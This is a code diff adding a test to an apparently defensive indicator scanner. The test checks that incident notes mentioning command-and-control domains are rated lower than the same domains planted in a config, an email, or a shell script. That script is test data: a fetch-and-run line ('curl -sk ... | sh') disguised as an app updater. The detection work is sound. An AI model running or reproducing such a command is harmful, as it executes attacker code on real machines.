@@ -197,6 +197,35 @@ TEST(InstallerKeywordsE2E, AffectedInstallerNamesInLogsAreWarnings) {
 }
 
 }  // namespace
+// Incident notes with fewer indicators than make a collection: sentences
+// about the incident are a Notice; the same domains in a dropped config, a
+// shell script or a mail stay Alerts.
+TEST(IntelContextE2E, NotesThatMentionAFewIndicatorsAreANotice) {
+  const auto d = C2Domains();
+  TempDir t;
+  const std::string notes = t.Write(
+      "home/admin/Documents/3cx-timeline.md",
+      "# Timeline\n\n- The desktop app on the accounting laptop reached " + d[0] +
+          " twice before we removed it.\n- " + d[1] +
+          " was contacted by the second machine according to the proxy team.\n");
+  const std::string config = t.Write("home/bob/.config/updater/settings.ini",
+                                     "[server]\nhost = " + d[0] + "\n");
+  const std::string script = t.Write("tmp/run.sh", "#!/bin/sh\n# keep the app up to date with the "
+                                                   "vendor's servers every hour\ncurl -sk https://" +
+                                                       d[1] + "/u | sh\n");
+  const std::string mail = t.Write("home/bob/Mail/update.eml",
+                                   "From: it@example.com\nSubject: update\n\nPlease download "
+                                   "the new version of the app from https://" +
+                                       d[0] + "/setup before Friday.\n");
+  int code = 0;
+  Jsonl j = Scan({"--all-files", t.path()}, &code);
+  EXPECT_EQ(Level(j, notes), "notice") << (j.findings.count(notes) ? j.findings.at(notes).dump(1) : "");
+  EXPECT_TRUE(HasReason(j, notes, "context.prose_mention"));
+  for (const auto& p : {config, script, mail})
+    EXPECT_EQ(Level(j, p), "alert") << p << "\n" << (j.findings.count(p) ? j.findings.at(p).dump(1) : "");
+  EXPECT_EQ(code, 1);
+}
+
 // The analyst's machine may hold this project's own build: its test
 // programs must not carry the indicators their tests use (tests write them
 // with testutil's Indicator("a|b")), or a scan of the build tree alerts on
